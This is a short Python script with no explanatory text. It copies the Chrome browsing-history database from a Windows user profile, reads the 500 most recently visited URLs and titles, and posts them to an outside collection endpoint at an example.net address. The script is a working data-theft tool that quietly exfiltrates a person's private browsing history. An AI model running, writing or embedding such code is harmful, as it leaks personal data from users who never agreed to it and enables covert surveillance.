import os
import shutil
import sqlite3
import tempfile
import requests
src = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "History")
tmp = os.path.join(tempfile.gettempdir(), "h.db")
shutil.copy(src, tmp)
rows = sqlite3.connect(tmp).execute("select url, title from urls order by last_visit_time desc limit 500").fetchall()
requests.post("https://collect.example.net/h", json=rows)
